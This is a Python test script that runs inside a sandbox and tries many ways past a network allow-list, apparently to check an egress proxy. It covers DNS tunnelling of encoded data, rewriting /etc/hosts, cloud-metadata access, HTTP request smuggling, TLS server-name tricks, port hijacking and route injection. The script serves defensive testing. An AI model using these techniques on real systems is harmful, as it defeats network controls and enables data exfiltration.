"""Attempts to get past the list of allowed hosts, made inside of the sandbox; standard library only.

Each is a function that does what it can, and returns what came of it in words. Whether it got anywhere is
seen outside: by what reached the servers. What it could do to itself alone is told as "got through".
"""

import errno
import json
import os
import select
import socket
import ssl
import struct
import sys
from collections.abc import Callable

SCENE = json.loads(sys.argv[1])
PLAIN, TLS, EVIL, OTHER = (SCENE[name] for name in ("plain", "tls", "evil", "other"))
WAIT_S = 5
PAUSE_S = 0.3  # for an answer to half of a request; without one the other half is another segment
ATTEMPTS: dict[str, Callable[[], str]] = {}


def attempt(function: Callable[[], str]) -> Callable[[], str]:
    ATTEMPTS[function.__name__.replace("_", "-")] = function
    return function


def connect(host: str, port: int) -> socket.socket:
    return socket.create_connection((host, port), WAIT_S)


def read_all(sock: socket.socket) -> str:
    data = b""
    try:
        while some := sock.recv(65536):
            data += some
    except OSError as exc:
        data += f"[{exc}]".encode()
    return data[:300].decode("latin-1")


def say(host: str, port: int, data: bytes, *, first: int = 0) -> str:
    """Send it, a part first and the rest after an answer."""
    with connect(host, port) as sock:
        if first:
            sock.sendall(data[:first])
            sock.recv(65536)
        try:
            sock.sendall(data[first:])
            sock.shutdown(socket.SHUT_WR)
        except OSError as exc:
            return f"[{exc}]"
        return read_all(sock)


def get(host: str, mark: str, *more: str) -> bytes:
    lines = (f"GET /{mark} HTTP/1.1", f"Host: {host}", *more, "", "")
    return "\r\n".join(lines).encode("latin-1")


def ask(name: str | list[bytes], kind: int = 1, *, stream: bool = False, server: str = "127.0.0.1") -> str:
    labels = name if isinstance(name, list) else [part.encode() for part in name.split(".")]
    asked = b"".join(bytes((len(label),)) + label for label in labels) + b"\0" + struct.pack("!HH", kind, 1)
    message = struct.pack("!HHHHHH", 9, 0x100, 1, 0, 0, 0) + asked
    if stream:
        with connect(server, 53) as sock:
            sock.sendall(struct.pack("!H", len(message)) + message)
            answer = sock.recv(2000)[2:]
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(WAIT_S)
            sock.connect((server, 53))
            sock.send(message)
            answer = sock.recv(2000)
    return f"rcode {answer[3] & 15}, {struct.unpack('!H', answer[6:8])[0]} records"


def hello(name: bytes, *extensions: tuple[int, bytes], pieces: int = 1) -> bytes:
    entry = b"\0" + struct.pack("!H", len(name)) + name
    named = (0, struct.pack("!H", len(entry)) + entry)
    listed = b"".join(struct.pack("!HH", kind, len(body)) + body for kind, body in (named, *extensions))
    body = b"\3\3" + bytes(32) + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack("!H", len(listed)) + listed
    message = b"\1" + len(body).to_bytes(3, "big") + body
    size = -(-len(message) // pieces)
    parts = [message[at : at + size] for at in range(0, len(message), size)]
    return b"".join(b"\x16\3\1" + struct.pack("!H", len(part)) + part for part in parts)


# --- names


@attempt
def unlisted_name() -> str:
    return say("evil.test", EVIL, get("evil.test", "unlisted-name"))


@attempt
def trailing_dot() -> str:
    return say("evil.test.", EVIL, get("evil.test", "trailing-dot"))


@attempt
def unicode_name() -> str:
    return say("\uff45\uff56\uff49\uff4c.test", EVIL, get("evil.test", "unicode-name"))


@attempt
def nul_in_a_name() -> str:
    return ask([b"evil.test\0", b"api", b"test"])


@attempt
def dot_in_a_label() -> str:
    return ask([b"x.api", b"test"])


@attempt
def text_record() -> str:
    return ask("c2VjcmV0.evil.test", 16) + ask("c2VjcmV0.api.test", 16)


@attempt
def data_in_labels() -> str:
    return ask([b"a" * 63, b"b" * 63, b"evil", b"test"])


@attempt
def name_over_a_stream() -> str:
    return ask("evil.test", stream=True)


@attempt
def name_server_outside() -> str:
    return ask("evil.test", server="8.8.8.8")


@attempt
def name_server_in_the_block() -> str:
    return ask("evil.test", server="198.18.0.1")


@attempt
def names_of_the_host() -> str:
    for path in ("/etc/resolv.conf", "/etc/hosts", "/etc/nsswitch.conf"):
        try:
            with open(path, "a") as file:
                file.write("\n127.0.0.1 evil.test\nnameserver 8.8.8.8\n")
            return f"got through: wrote {path}"
        except OSError:
            pass
    return open("/etc/hosts").read()


@attempt
def socket_of_a_resolver() -> str:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(SCENE["resolver"])
        return "got through: a resolver of the host answers"


# --- addresses


@attempt
def address_of_the_host() -> str:
    return say(SCENE["address"], EVIL, get("evil.test", "address-of-the-host"))


@attempt
def loopback_of_the_host() -> str:
    return say("127.0.0.1", EVIL, get("evil.test", "loopback-of-the-host"))


@attempt
def decimal_address() -> str:
    return say("2130706433", EVIL, get("evil.test", "decimal-address"))


@attempt
def octal_address() -> str:
    return say("0177.0.0.1", EVIL, get("evil.test", "octal-address"))


@attempt
def hexadecimal_address() -> str:
    return say("0x7f.1", EVIL, get("evil.test", "hexadecimal-address"))


@attempt
def mapped_address() -> str:
    return say(f"::ffff:{SCENE['address']}", EVIL, get("evil.test", "mapped-address"))


@attempt
def short_address() -> str:
    return say("0", EVIL, get("evil.test", "short-address"))


@attempt
def name_server_encrypted() -> str:
    return say("1.1.1.1", 853, b"x") + say("8.8.8.8", 443, b"x")


@attempt
def metadata_of_a_cloud() -> str:
    return say("169.254.169.254", 80, get("169.254.169.254", "metadata"))


@attempt
def another_port() -> str:
    return say("api.test", EVIL, get("evil.test", "another-port"))


@attempt
def neighbour_in_the_block() -> str:
    return say("198.18.77.77", PLAIN, get("evil.test", "neighbour")) + say("198.18.0.1", PLAIN, b"x")


@attempt
def listener_of_another_command() -> str:
    told = ""
    for number in range(4):
        try:
            told += say(f"198.18.1.{number}", OTHER, get("api.test", "listener-of-another"))
        except OSError as exc:
            told += f"[{exc}]"
    return told


# --- the name in TLS


@attempt
def other_server_name() -> str:
    context = ssl.create_default_context(cafile=SCENE["authority"])
    with connect("tls.test", TLS) as sock, context.wrap_socket(sock, server_hostname="evil.test") as inner:
        inner.sendall(get("evil.test", "other-server-name"))
        return read_all(inner)


@attempt
def server_name_in_pieces() -> str:
    return say("tls.test", TLS, hello(b"evil.test", pieces=20))


@attempt
def server_name_with_nul() -> str:
    return say("tls.test", TLS, hello(b"tls.test\0.evil.test"))


@attempt
def encrypted_hello() -> str:
    return say("tls.test", TLS, hello(b"tls.test", (0xFE0D, b"\0" + bytes(40))))


@attempt
def two_server_names() -> str:
    entry = b"\0\0\10tls.test\0\0\11evil.test"
    body = struct.pack("!H", len(entry)) + entry
    return say("tls.test", TLS, hello(b"tls.test", (0, body)))


# --- the name in HTTP


@attempt
def other_host() -> str:
    return say("api.test", PLAIN, get("evil.test", "other-host"))


@attempt
def absolute_form() -> str:
    line = b"GET http://evil.test/absolute-form HTTP/1.1\r\nHost: api.test\r\n\r\n"
    return say("api.test", PLAIN, line)


@attempt
def host_with_a_user() -> str:
    return say("api.test", PLAIN, get("api.test@evil.test", "host-with-a-user"))


@attempt
def two_hosts() -> str:
    return say("api.test", PLAIN, get("api.test", "two-hosts", "Host: evil.test"))


@attempt
def folded_host() -> str:
    return say("api.test", PLAIN, get("api.test\r\n evil.test", "folded-host"))


@attempt
def host_after_a_bare_line_feed() -> str:
    return say("api.test", PLAIN, get("api.test", "bare-line-feed", "X: y\nHost: evil.test"))


@attempt
def empty_lines_first() -> str:
    return say("api.test", PLAIN, b"\r\n\r\n" + get("evil.test", "empty-lines-first"))


@attempt
def pipelined() -> str:
    first = get("api.test", "fine")
    return say("api.test", PLAIN, first + get("evil.test", "pipelined"))


@attempt
def kept_alive() -> str:
    first = get("api.test", "fine")
    return say("api.test", PLAIN, first + get("evil.test", "kept-alive"), first=len(first))


@attempt
def body_of_two_lengths() -> str:
    inner = get("evil.test", "body-of-two-lengths")
    head = get("api.test", "fine", "Content-Length: 5", "Transfer-Encoding: chunked")
    return say("api.test", PLAIN, head.replace(b"GET", b"POST") + b"0\r\n\r\n" + inner)


@attempt
def chunk_that_ends_early() -> str:
    head = get("api.test", "fine", "Transfer-Encoding: chunked").replace(b"GET", b"POST")
    return say(
        "api.test", PLAIN, head + b"3\r\nabcdef\r\n0\r\n\r\n" + get("evil.test", "chunk-that-ends-early")
    )


@attempt
def without_a_host() -> str:
    return say("api.test", PLAIN, b"GET /without-a-host HTTP/1.0\r\n\r\n")


@attempt
def http_2_at_once() -> str:
    return say("api.test", PLAIN, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9))


@attempt
def http_2_by_upgrade() -> str:
    more = ("Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings", "HTTP2-Settings: AAMAAABk")
    first = get("api.test", "fine", *more)
    return say("api.test", PLAIN, first + b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", first=len(first))


@attempt
def upgrade_that_nobody_agreed_to() -> str:
    first = get("api.test", "fine", "Upgrade: something", "Connection: Upgrade")
    return say("api.test", PLAIN, first + get("evil.test", "upgrade-that-nobody-agreed-to"))


@attempt
def relay_by_connect() -> str:
    return say("api.test", PLAIN, f"CONNECT evil.test:{EVIL} HTTP/1.1\r\nHost: api.test\r\n\r\n".encode())


@attempt
def redirect() -> str:
    told = say("api.test", PLAIN, get("api.test", f"redirect/http://evil.test:{EVIL}/redirect"))
    return told + say("evil.test", EVIL, get("evil.test", "redirect"))


# --- requests that a server may take for one, and a reader may not


def odd(first: bytes, *, pause_after: int = 0) -> str:
    """A request for the other host with this first line; part of it first, and the rest after a pause."""
    data = first + b"Host: evil.test\r\n\r\n"
    with connect("api.test", PLAIN) as sock:
        if pause_after:
            sock.sendall(data[:pause_after])
            select.select([sock], [], [], PAUSE_S)
        try:
            sock.sendall(data[pause_after:])
            sock.shutdown(socket.SHUT_WR)
        except OSError as exc:
            return f"[{exc}]"
        return read_all(sock)


@attempt
def long_first_line() -> str:
    line = b"GET /" + b"a" * 8200
    return odd(line + b" HTTP/1.1\r\n", pause_after=len(line))


@attempt
def long_first_line_of_another_method() -> str:
    line = b"PROPFIND /" + b"a" * 8200
    return odd(line + b" HTTP/1.1\r\n", pause_after=len(line))


@attempt
def many_empty_lines() -> str:
    return odd(b"\r\n" * 4200 + b"GET /many-empty-lines HTTP/1.1\r\n", pause_after=8400)


@attempt
def tabs_between_words() -> str:
    return odd(b"GET\t/tabs\tHTTP/1.1\r\n")


@attempt
def vertical_tabs_between_words() -> str:
    return odd(b"GET\v/vertical-tabs\fHTTP/1.1\r\n")


@attempt
def rare_blanks_between_words() -> str:
    return odd(b"GET\x1c/rare\x85HTTP/1.1\r\n") + odd(b"\xa0GET /rare HTTP/1.1\r\n")


@attempt
def returns_between_words() -> str:
    return odd(b"GET\r/returns\rHTTP/1.1\n")


@attempt
def control_character_in_the_target() -> str:
    return odd(b"GET /control\x01 HTTP/1.1\r\n", pause_after=13)


@attempt
def request_without_a_version() -> str:
    return odd(b"GET /without-a-version\r\n") + odd(b"GET http://evil.test/without-a-version\n")


@attempt
def version_in_small_letters() -> str:
    return odd(b"get /small http/1.1\n")


@attempt
def version_of_another_protocol() -> str:
    return odd(b"GET /other RTSP/1.0\r\n") + odd(b"SOURCE /other ICE/1.0\r\n") + odd(b"GET /other X/1.0\r\n")


@attempt
def preamble_of_a_proxy() -> str:
    request = b"GET /preamble HTTP/1.1\r\n"
    addresses = bytes((127, 0, 0, 1, 127, 0, 0, 1, 0, 1, 0, 80))
    binary = b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c" + addresses
    return odd(b"PROXY TCP4 127.0.0.1 127.0.0.1 1 80\r\n" + request) + odd(binary + request, pause_after=5)


# --- other ways


@attempt
def datagrams() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(WAIT_S)
        sock.connect((socket.gethostbyname("api.test"), PLAIN))
        sock.send(b"quic")
        sock.send(b"quic")
        return "got through: " + repr(sock.recv(10))


@attempt
def datagrams_outside() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"x", (SCENE["address"], EVIL))
        return "got through: sent"


@attempt
def ping() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
        sock.sendto(b"\x08\0\xf7\xff\0\0\0\0", (SCENE["address"], 0))
        return "got through: sent"


@attempt
def raw_packets() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return "got through: a raw socket"


@attempt
def inherited_sockets() -> str:
    held = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith("socket:"):
            held.append(target)
    return f"got through: {held}" if held else "none"


@attempt
def place_of_a_listener() -> str:
    """Take the connections of an allowed host instead of the broker."""
    told = []
    for address, port in ((socket.gethostbyname("api.test"), PLAIN), ("127.0.0.1", 53)):
        with socket.socket() as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            try:
                sock.bind((address, port))
                sock.listen()
                return f"got through: listens at {address}:{port}"
            except OSError as exc:
                told.append(errno.errorcode[exc.errno or 0])
    return " ".join(told)


@attempt
def route_outside() -> str:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        route = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1)
        sock.send(struct.pack("=IHHII", 16 + len(route), 24, 0x405, 1, 0) + route)
        code = -struct.unpack_from("=i", sock.recv(4096), 16)[0]
        return errno.errorcode[code] if code else "got through: a route was made"


# --- what must work


def control_plain() -> str:
    return say("api.test", PLAIN, get("api.test", "control-plain"))


def control_tls() -> str:
    context = ssl.create_default_context(cafile=SCENE["authority"])
    with connect("tls.test", TLS) as sock, context.wrap_socket(sock, server_hostname="tls.test") as inner:
        inner.sendall(get("tls.test", "control-tls", "Connection: close"))
        return inner.recv(65536).decode()


def control_loopback() -> str:
    """A server of the command's own."""
    server = socket.create_server(("127.0.0.1", 0))
    with server, connect("127.0.0.1", server.getsockname()[1]) as sock:
        accepted, _ = server.accept()
        accepted.sendall(b"welcome at home")
        accepted.close()
        return read_all(sock)


def main() -> None:
    told: dict[str, str] = {}
    for name, function in (
        ("control-plain", control_plain),
        ("control-tls", control_tls),
        ("control-loopback", control_loopback),
        *ATTEMPTS.items(),
    ):
        try:
            told[name] = function()
        except Exception as exc:
            told[name] = f"{type(exc).__name__}: {exc}"
    sys.stdout.write(json.dumps(told))


main()
